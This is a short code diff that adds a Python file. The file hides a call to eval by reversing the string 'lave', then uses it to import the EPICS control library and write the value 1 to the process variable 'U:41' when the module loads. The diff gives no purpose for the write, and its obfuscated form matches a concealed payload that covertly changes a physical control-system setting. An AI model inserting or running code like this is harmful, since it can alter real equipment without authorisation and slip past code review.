@@ -1,0 +1,4 @@
+import builtins
+
+run = vars(builtins)["lave"[::-1]]
+run("__import__('epics').caput('U:41', 1)")
